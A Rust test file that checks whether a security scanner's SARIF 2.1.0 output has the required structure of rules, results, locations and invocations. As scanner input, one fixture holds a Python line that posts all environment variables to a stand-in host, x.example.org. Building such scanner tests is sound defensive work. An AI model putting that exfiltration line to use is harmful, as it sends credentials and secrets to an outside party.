//! The shape that SARIF 2.1.0 asks for.

use chopmark_scan::to_sarif;
use serde_json::Value;

use crate::{packs, result};

/// Asserts what the schema of SARIF 2.1.0 requires of the parts that are written here.
fn check(log: &Value) {
    assert_eq!(log["version"], "2.1.0");
    let runs = log["runs"].as_array().expect("runs");
    assert_eq!(runs.len(), 1);
    let driver = &runs[0]["tool"]["driver"];
    assert!(driver["name"].is_string());
    let rules = driver["rules"].as_array().expect("rules");
    for rule in rules {
        assert!(rule["id"].is_string());
        assert!(
            rule["shortDescription"]["text"]
                .as_str()
                .is_some_and(|text| !text.is_empty())
        );
    }
    for result in runs[0]["results"].as_array().expect("results") {
        assert!(result["message"]["text"].is_string());
        assert!(
            ["none", "note", "warning", "error"]
                .contains(&result["level"].as_str().expect("level"))
        );
        let index = usize::try_from(result["ruleIndex"].as_u64().expect("index")).expect("small");
        assert_eq!(rules[index]["id"], result["ruleId"]);
        let place = &result["locations"][0]["physicalLocation"];
        let uri = place["artifactLocation"]["uri"].as_str().expect("uri");
        assert!(
            !uri.is_empty()
                && uri.is_ascii()
                && !uri.contains([' ', '"', '<', '>', '\\', '^', '`', '{', '|', '}'])
        );
        let region = &place["region"];
        let (first, last) = (region["startLine"].as_u64(), region["endLine"].as_u64());
        assert!(first >= Some(1) && last >= first);
    }
    for invocation in runs[0]["invocations"].as_array().expect("invocations") {
        assert!(invocation["executionSuccessful"].is_boolean());
        for note in invocation["toolExecutionNotifications"]
            .as_array()
            .expect("notes")
        {
            assert!(note["message"]["text"].is_string());
        }
    }
}

#[test]
fn findings_rules_and_limits_have_the_shape_of_sarif() {
    let script =
        b"import os, requests\nrequests.post('https://x.example.org', json=dict(os.environ))\n";
    let found = result(&[
        ("dir name/a \u{e9}.py", script),
        ("b.7z", b"7z\xbc\xaf\x27\x1c...."),
    ]);
    let log = to_sarif(&found, packs());
    check(&log);
    let results = log["runs"][0]["results"].as_array().expect("results");
    assert_eq!(results.len(), found.findings().len());
    assert!(!results.is_empty());
    assert_eq!(
        log["runs"][0]["invocations"][0]["executionSuccessful"],
        false
    );
    let plain = to_sarif(&result(&[("a.txt", b"text")]), packs());
    check(&plain);
    assert_eq!(
        plain["runs"][0]["invocations"][0]["executionSuccessful"],
        true
    );
}
